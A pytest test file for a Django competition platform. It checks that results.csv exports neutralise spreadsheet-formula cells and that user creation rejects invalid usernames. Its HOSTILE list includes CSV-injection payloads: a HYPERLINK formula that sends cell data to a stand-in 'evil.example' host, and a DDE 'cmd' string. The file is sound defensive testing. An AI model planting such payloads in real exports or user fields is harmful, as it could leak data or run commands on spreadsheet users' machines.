"""results.csv never hands a spreadsheet a live formula (OWASP's CSV-injection rule), and
usernames follow Django's own rules wherever the platform creates users."""

from __future__ import annotations

import csv
import io

import pytest
from accounts.services import create_user
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.core.management.base import CommandError
from rest_framework.authtoken.models import Token

from submissions import lifecycle
from tests.evaluator.model_zoo import GOOD_MODELS
from tests.platform.helpers import client_for, scorecard

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1)", "\tTab", "\rReturn"]


def _scored(user, latency_ms: float = 2.0) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client_for(user).post("/api/submissions/", {
        "file": SimpleUploadedFile("m.onnx", GOOD_MODELS["mnist_linear"]()),
        "competition": "course", "track": "mnist"}, format="multipart")
    assert response.status_code == 201, response.content
    pk = response.json()["id"]
    lifecycle.record_scorecard(pk, lifecycle.claim(pk), scorecard(latency_ms=latency_ms))


def test_results_csv_escapes_cells_that_a_spreadsheet_would_run(competition, instructor):
    # Users made before names were checked (or by another tool) can still carry such names.
    for name in HOSTILE:
        user = get_user_model().objects.create(username=name)
        user.api_token = Token.objects.create(user=user).key
        _scored(user)
    response = client_for(instructor).get("/api/competitions/course/results.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    names = {row["username"] for row in rows}
    assert names == {"'" + name for name in HOSTILE}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        float(row["accuracy"])  # figures stay figures
        assert row["accuracy"] == str(float(row["accuracy"]))


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    from api.spreadsheet import safe_cell

    assert safe_cell(-1.5) == -1.5 and safe_cell(0) == 0 and safe_cell(None) is None
    assert safe_cell("ann") == "ann" and safe_cell("a=b") == "a=b"
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x")', "ann smith", "a\x00b", "", "x" * 151,
                                  "semi;colon", "tab\tname"])
def test_create_user_refuses_names_django_refuses(name):
    with pytest.raises(ValueError, match="invalid username"):
        create_user(name)
    with pytest.raises(CommandError, match="invalid username"):
        call_command("create_user", name)
    if "\x00" not in name:  # PostgreSQL could not even look such a name up
        assert not get_user_model().objects.filter(username=name).exists()


def test_create_user_accepts_what_django_accepts(capsys):
    for name in ("ann", "ann.smith@example.org", "b-o_b+1", "Zoë"):
        user, token = create_user(name)
        assert user.username == name and token
